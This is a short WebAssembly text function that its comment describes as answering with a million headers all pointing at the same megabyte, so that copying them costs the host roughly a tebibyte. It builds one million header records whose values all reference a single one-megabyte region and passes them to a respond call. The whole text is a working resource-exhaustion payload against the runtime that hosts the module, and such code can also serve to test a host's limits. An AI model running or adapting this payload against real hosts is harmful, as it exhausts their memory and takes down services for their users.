;; Answers with a million headers that all point to the same megabyte: a tebibyte, once it is copied.
(func $handle (param i32) (result i32)
  (local $left i32) (local $header i32)
  (drop (memory.grow (i32.const 400)))
  (local.set $left (i32.const 1000000))
  (loop $again
    (local.set $left (i32.sub (local.get $left) (i32.const 1)))
    (local.set $header (i32.add (i32.const 131072) (i32.mul (local.get $left) (i32.const 16))))
    (i32.store (local.get $header) (i32.const 1024))
    (i32.store offset=4 (local.get $header) (i32.const 3))
    (i32.store offset=8 (local.get $header) (i32.const 131072))
    (i32.store offset=12 (local.get $header) (i32.const 1000000))
    (br_if $again (local.get $left)))
  (call $respond (i32.const 131072) (i32.const 1000000) (i32.const 0) (i32.const 0)))
